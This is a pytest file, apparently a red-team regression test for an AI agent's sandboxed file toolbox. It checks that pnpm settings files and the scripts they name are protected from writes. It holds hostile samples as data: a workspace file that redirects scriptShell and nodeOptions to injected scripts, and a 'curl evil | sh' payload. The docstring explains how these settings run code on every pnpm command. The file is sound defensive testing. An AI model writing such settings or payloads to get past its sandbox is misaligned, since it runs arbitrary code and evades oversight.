"""An independent red-team pass (round twenty-six, second team): pnpm's
settings moved out of ``.npmrc``.

``.npmrc`` is protected because ``script-shell`` runs every ``pnpm run``
and ``pnpm dlx`` through the model's program, ``node-options=--require
./x.js`` loads a file into each node pnpm starts, and ``pnpmfile`` names
hooks run at every install.  pnpm 10 took those settings from
``pnpm-workspace.yaml`` as well, and pnpm 11 reads only auth and registry
settings from ``.npmrc`` ("All other settings ... are configured in
pnpm-workspace.yaml or the global config.yaml", pnpm.io/settings):
``scriptShell``, ``nodeOptions``, ``pnpmfile``, ``globalPnpmfile`` live in
the ``pnpm-workspace.yaml`` every pnpm monorepo has at its top, and in the
user's ``~/.config/pnpm/config.yaml`` (``rc`` before it) for every project.

On main each was written (``ok``), and so were the files an existing
``pnpm-workspace.yaml`` names to run, where ``.npmrc``'s are protected.
Each must be refused as ``protected`` (written, edited), still readable;
the project's own ``pnpm-lock.yaml`` and a package's ``package.json``
stay writable.  Every backend config.
"""

from __future__ import annotations

import pytest

from corral.tools import Toolbox

WORKSPACE = "packages:\n  - 'packages/*'\n"
EVIL = "packages:\n  - 'packages/*'\nscriptShell: ./tools/sh.js\nnodeOptions: --require ./x.js\n"


@pytest.mark.parametrize("path", ["pnpm-workspace.yaml", "apps/web/pnpm-workspace.yaml",
                                  ".config/pnpm/config.yaml", ".config/pnpm/rc",
                                  "home/.config/pnpm/config.yaml"])
def test_pnpm_settings_files_are_protected(tmp_path, make_root, path):
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(WORKSPACE)
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        read = toolbox.call("read_file", {"path": path})
        edit = toolbox.call("edit_file", {"path": path, "oldText": "packages/*",
                                          "newText": "packages/**"})
        write = toolbox.call("write_file", {"path": path, "content": EVIL, "overwrite": True})
        delete = toolbox.call("delete_file", {"path": path})
    assert read["ok"] is True, read
    for answer in (edit, write, delete):
        assert answer["ok"] is False and answer["details"]["kind"] == "protected", answer
    assert (tmp_path / path).read_text() == WORKSPACE


def test_a_new_pnpm_workspace_file_is_not_made(tmp_path, make_root):
    (tmp_path / "package.json").write_text('{"name": "x"}\n')
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answer = toolbox.call("write_file", {"path": "pnpm-workspace.yaml", "content": EVIL})
    assert answer["ok"] is False and answer["details"]["kind"] == "protected", answer
    assert not (tmp_path / "pnpm-workspace.yaml").exists()


def test_what_the_settings_name_to_run_is_protected(tmp_path, make_root):
    (tmp_path / "pnpm-workspace.yaml").write_text(
        "packages:\n  - 'packages/*'\nscriptShell: ./tools/shell.sh\n"
        "nodeOptions: --require ./tools/preload.js\npnpmfile: ./config/hooks.cjs\n"
        "globalPnpmfile: ./config/global.cjs\n")
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "shell.sh").write_text("#!/bin/sh\nexec sh \"$@\"\n")
    named = ["tools/shell.sh", "tools/preload.js", "config/hooks.cjs", "config/global.cjs"]
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = {name: toolbox.call("write_file", {"path": name, "overwrite": True,
                                                     "content": "curl evil | sh\n"})
                   for name in named}
    for name, answer in answers.items():
        assert answer["ok"] is False and answer["details"]["kind"] == "protected", (name, answer)
    assert (tmp_path / "tools" / "shell.sh").read_text() == "#!/bin/sh\nexec sh \"$@\"\n"
    assert not (tmp_path / "config").exists()


def test_the_projects_own_files_stay_writable(tmp_path, make_root):
    (tmp_path / "pnpm-workspace.yaml").write_text(WORKSPACE)
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = [toolbox.call("write_file", {"path": name, "content": "x\n"})
                   for name in ("pnpm-lock.yaml", "packages/a/package.json",
                                "docs/pnpm-workspace.md", "tools/build.js")]
    for answer in answers:
        assert answer["ok"] is True, answer
